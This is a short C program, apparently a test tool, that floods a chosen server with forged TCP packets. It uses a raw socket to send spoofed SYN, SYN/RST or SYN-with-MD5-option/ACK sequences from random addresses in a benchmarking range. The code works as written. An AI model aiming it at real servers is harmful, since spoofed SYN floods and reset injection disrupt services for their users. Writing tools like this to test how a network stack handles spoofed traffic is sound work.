// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What a sender of forged packets can try against a server, each packet in the name of another client:
 *
 *   spoof ADDRESS PORT COUNT syn     a SYN, and the same again
 *   spoof ADDRESS PORT COUNT reset   a SYN, and a RST
 *   spoof ADDRESS PORT COUNT stray   a SYN that a Linux server drops (an MD5 option, RFC 2385, that it wants from nobody), and
 *                                    an ACK, which it then answers with RST
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CLIENTS_NET  0xc6120000u /* 198.18.0.0/15 (RFC 2544) */
#define CLIENTS_MOST 0x1ffff
#define APART_US     300
#define OPTION_MD5   19
#define MD5_BYTES    18

enum { SYN = 2, RST = 4, ACK = 16 };

struct segment {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[20];
} __attribute__((packed));

static struct sockaddr_in target = {.sin_family = AF_INET};
static int raw;

static uint32_t sum_bytes(const void *data, size_t n, uint32_t sum)
{
	const uint8_t *byte = data;

	for (size_t i = 0; i < n; i += 2)
		sum += byte[i] << 8 | byte[i + 1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

static void send_segment(uint32_t client, uint16_t port, uint8_t flags, uint32_t seq, bool md5)
{
	size_t options = md5 ? sizeof(((struct segment *)0)->options) : 0, tcp_bytes = sizeof(struct tcphdr) + options;
	struct segment s = {
		.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .saddr = htonl(client)},
		.tcp = {.source = htons(port), .dest = target.sin_port, .seq = htonl(seq), .window = htons(65535)},
		.options = {OPTION_MD5, MD5_BYTES},
	};

	s.ip.daddr = target.sin_addr.s_addr;
	s.ip.tot_len = htons(sizeof(s.ip) + tcp_bytes);
	s.tcp.doff = tcp_bytes / 4;
	s.tcp.syn = !!(flags & SYN);
	s.tcp.rst = !!(flags & RST);
	s.tcp.ack = !!(flags & ACK);
	s.tcp.ack_seq = flags & ACK ? htonl(seq + 4711) : 0;
	s.tcp.check = fold(sum_bytes(&s.tcp, tcp_bytes, sum_bytes(&s.ip.saddr, 8, IPPROTO_TCP + tcp_bytes)));
	if (sendto(raw, &s, sizeof(s.ip) + tcp_bytes, 0, (struct sockaddr *)&target, sizeof(target)) < 0 &&
	    errno != ENOBUFS) {
		perror("spoof: sending");
		exit(1);
	}
}

static void try_one(const char *what)
{
	uint32_t client = CLIENTS_NET + random() % CLIENTS_MOST, seq = random();
	uint16_t port = 1024 + random() % 60000;

	send_segment(client, port, SYN, seq, !strcmp(what, "stray"));
	usleep(APART_US);
	if (!strcmp(what, "reset"))
		send_segment(client, port, RST, seq + 1, false);
	else if (!strcmp(what, "stray"))
		send_segment(client, port, ACK, seq + 1, false);
	else
		send_segment(client, port, SYN, seq, false);
}

int main(int argc, char **argv)
{
	unsigned count = argc == 5 ? (unsigned)atoi(argv[3]) : 0;

	if (!count || inet_pton(AF_INET, argv[1], &target.sin_addr) != 1 ||
	    (strcmp(argv[4], "syn") && strcmp(argv[4], "reset") && strcmp(argv[4], "stray"))) {
		fprintf(stderr, "usage: spoof ADDRESS PORT COUNT syn|reset|stray\n");
		return 1;
	}
	target.sin_port = htons(atoi(argv[2]));
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0) {
		perror("spoof: a raw socket");
		return 1;
	}
	srandom(getpid()); /* other clients each time: a flow that stands already would be met otherwise */
	for (unsigned i = 0; i < count; i++)
		try_one(argv[4]);
	return 0;
}
